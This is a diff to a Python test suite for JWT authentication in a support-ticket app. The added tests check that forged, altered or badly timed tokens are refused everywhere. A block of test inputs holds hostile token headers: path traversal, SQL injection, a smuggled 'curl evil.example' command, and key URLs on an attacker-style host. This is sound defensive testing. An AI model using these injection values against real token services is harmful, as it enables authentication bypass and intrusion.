@@ -5,7 +5,8 @@ import hashlib
 import hmac
 import json
 import re
-from datetime import timedelta
+import socket
+from datetime import UTC, timedelta
 
 import jwt
 import pytest
@@ -18,8 +19,8 @@ from app.utils import tokens
 from app.utils.blueprint import Blueprint
 from tests.client import document_of, documented
 from tests.conftest import SECRETS
-from tests.factories import quien, tiquet
-from tests.world import refresh_token
+from tests.factories import NUEVO, quien, tiquet
+from tests.world import refresh_token, snapshot
 
 ME = "/api/auth/me"
 KEY = SECRETS["JWT_SECRET_KEY"]
@@ -137,8 +138,24 @@ def good(token):
     return jwt.decode(token, KEY, algorithms=["HS256"], audience="soporteplus")
 
 
+@pytest.fixture
+def untouched(token):
+    """Whatever is tried, every row of every table stays as it is."""
+    before = snapshot()
+    yield
+    assert snapshot() == before
+
+
 def get_me(client, token):
     return client.get(ME, headers={"Authorization": f"Bearer {token}"})
+
+
+def refused_anywhere(client, token, codigo="token_invalido"):
+    """A token that opens neither a reading nor a writing route, nor renews itself."""
+    headers = {"Authorization": f"Bearer {token}"}
+    writing = client.post("/api/tickets/tickets", json=NUEVO, headers=headers)
+    renewing = client.post("/api/auth/refresh", headers=headers)
+    return all(refused(answer, codigo) for answer in (get_me(client, token), writing, renewing))
 
 
 def refused(answer, codigo="token_invalido"):
@@ -167,14 +184,30 @@ CLAIMS = {
 }
 
 
+@pytest.mark.usefixtures("untouched")
 @pytest.mark.parametrize("changes", CLAIMS.values(), ids=CLAIMS)
 def test_a_token_with_other_claims_is_refused_though_we_signed_it(client, good, changes):
-    assert refused(get_me(client, jwt_of(good | changes)))
+    if changes == {"type": "refresh"}:  # A good refresh token by its claims, but not the one of its session.
+        assert refused(get_me(client, jwt_of(good | changes)))
+    else:
+        assert refused_anywhere(client, jwt_of(good | changes))
 
 
+@pytest.mark.usefixtures("untouched")
 @pytest.mark.parametrize("claim", tokens.REQUIRED)
 def test_a_token_without_one_of_its_claims_is_refused(client, good, claim):
-    assert refused(get_me(client, jwt_of({k: v for k, v in good.items() if k != claim})))
+    assert refused_anywhere(client, jwt_of({k: v for k, v in good.items() if k != claim}))
+
+
+@pytest.mark.usefixtures("untouched")
+@pytest.mark.parametrize(("claim", "seconds"), [("nbf", 60), ("iat", 60), ("exp", -60)])
+def test_a_clock_may_differ_by_five_seconds_and_no_more(client, good, claim, seconds):
+    now, sign = int(utcnow().replace(tzinfo=UTC).timestamp()), seconds // 60
+    codigo = "token_caducado" if claim == "exp" else "token_invalido"
+
+    assert get_me(client, jwt_of(good | {claim: now + 2 * sign})).status_code == 200
+    assert refused_anywhere(client, jwt_of(good | {claim: now + 8 * sign}), codigo)
+    assert refused_anywhere(client, jwt_of(good | {claim: now + seconds}), codigo)
 
 
 @pytest.mark.parametrize("kind", ["access", "refresh"])
@@ -264,9 +297,51 @@ def flipped(part):
     return part[:20] + ("A" if part[20] != "A" else "B") + part[21:]
 
 
+@pytest.mark.usefixtures("untouched")
 @pytest.mark.parametrize("forge", FORGED.values(), ids=FORGED)
 def test_a_forged_token_is_refused(client, token, good, forge):
-    assert refused(get_me(client, forge(good, token.split("."))))
+    assert refused_anywhere(client, forge(good, token.split(".")))
+
+
+@pytest.mark.usefixtures("untouched")
+def test_each_byte_of_the_signature_counts(client, token):
+    *signed, signature = token.split(".")
+    digest = base64.urlsafe_b64decode(signature + "=")
+
+    for place in range(len(digest)):
+        changed = bytes(byte ^ (place == n) for n, byte in enumerate(digest))
+        assert refused(get_me(client, ".".join((*signed, encoded(changed)))))
+    for length in range(len(digest)):
+        assert refused(get_me(client, ".".join((*signed, encoded(digest[:length])))))
+
+
+@pytest.fixture
+def unconnected(monkeypatch):
+    """Fails whoever would fetch a key from somewhere."""
+    asked = []
+    monkeypatch.setattr(socket.socket, "connect", lambda _self, address: asked.append(address))
+    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *_a, **_k: asked.append(host))
+    yield
+    assert asked == []
+
+
+KEYS_OF_OTHERS = {
+    "a path": {"kid": "../../../../dev/null"},
+    "a query": {"kid": "' UNION SELECT 'k' --"},
+    "a command": {"kid": "key; curl evil.example"},
+    "an address": {"jku": "https://evil.example/jwks.json"},
+    "an address on this machine": {"jku": "http://127.0.0.1:9/jwks.json"},
+    "a certificate's address": {"x5u": "https://evil.example/cert.pem"},
+    "a certificate": {"x5c": ["MIIB"]},
+    "a key": {"jwk": {"kty": "oct", "k": encoded(b"k")}},
+}
+
+
+@pytest.mark.usefixtures("unconnected", "untouched")
+@pytest.mark.parametrize("header", KEYS_OF_OTHERS.values(), ids=KEYS_OF_OTHERS)
+@pytest.mark.parametrize("key", ["", "k"])
+def test_no_header_of_a_token_names_its_key(client, good, header, key):
+    assert refused_anywhere(client, jwt_of(good, key, **header))
 
 
 @pytest.mark.parametrize(
